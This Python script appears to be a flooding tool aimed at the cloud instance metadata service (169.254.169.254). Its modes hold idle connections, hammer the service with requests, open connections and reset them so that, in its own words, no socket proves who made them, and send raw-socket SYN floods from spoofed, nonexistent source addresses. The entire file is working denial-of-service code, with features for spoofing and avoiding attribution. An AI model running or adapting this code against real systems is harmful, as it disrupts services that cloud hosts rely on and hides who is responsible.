"""Floods the service. Prints what it did as JSON.

`flood.py hold COUNT SECONDS`: holds COUNT connections that send nothing, and replaces those that are closed.
`flood.py ask COUNT`: makes COUNT connections as fast as it can, each with a request.
`flood.py reset SECONDS`: makes connections and resets each at once, so that no socket is left that proves who made it.
`flood.py syn SECONDS`: sends SYNs from addresses that do not exist, by whichever route the kernel chooses and over imds0. Needs
NET_RAW, which Docker grants by default.
"""

import json
import random
import resource
import select
import socket
import struct
import sys
import time

SERVICE = ("169.254.169.254", 80)
REQUEST = b"GET /latest/meta-data/instance-id HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
# New connections of one process in a second, and SYNs: a flood that two cores survive, and far above any limit.
CONNECTIONS = 5000
SYNS = 4000


def hold(count, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    end, opened, most, held = time.monotonic() + seconds, 0, 0, {}
    poll = select.poll()
    while time.monotonic() < end:
        for _ in range(min(count - len(held), CONNECTIONS // 10)):
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex(SERVICE)
            held[connection.fileno()] = connection
            poll.register(connection, select.POLLIN)
            opened += 1
        most = max(most, len(held))
        time.sleep(0.1)
        for number, _ in poll.poll(0):
            poll.unregister(number)
            held.pop(number).close()
    return {"opened": opened, "most": most, "last": len(held)}


def ask(count):
    answers = {}
    for _ in range(count):
        try:
            with socket.create_connection(SERVICE, 2) as connection:
                connection.sendall(REQUEST)
                answer = connection.recv(4096)[9:12].decode() or "closed"
        except OSError as error:
            answer = type(error).__name__
        answers[answer] = answers.get(answer, 0) + 1
    return answers


def reset(seconds):
    end, opened = time.monotonic() + seconds, 0
    at_once = struct.pack("ii", 1, 0)
    while time.monotonic() < end:
        for _ in range(CONNECTIONS // 100):
            connection = socket.socket()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, at_once)
            try:
                connection.connect(SERVICE)
                opened += 1
            except OSError:
                pass
            connection.close()
        time.sleep(0.01)
    return {"opened": opened}


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(source, port):
    target = socket.inet_aton(SERVICE[0])
    segment = struct.pack("!HHIIBBHHH", port, SERVICE[1], random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    sum_ = checksum(source + target + struct.pack("!BBH", 0, 6, len(segment)) + segment)
    segment = segment[:16] + struct.pack("!H", sum_) + segment[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0, source, target) + segment


def syn(seconds):
    sockets = []
    for link in (b"", b"imds0"):
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        if link:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, link)
        sockets.append(raw)
    end, sent, failed = time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        for _ in range(SYNS // 100):
            source = bytes([10, random.randrange(256), random.randrange(256), random.randrange(1, 255)])
            for raw in sockets:
                try:
                    raw.sendto(syn_packet(source, random.randrange(1024, 65536)), SERVICE)
                    sent += 1
                except OSError:
                    failed += 1
        time.sleep(0.01)
    return {"sent": sent, "failed": failed}


arguments = [int(word) for word in sys.argv[2:]]
print(json.dumps({"hold": hold, "ask": ask, "reset": reset, "syn": syn}[sys.argv[1]](*arguments)))
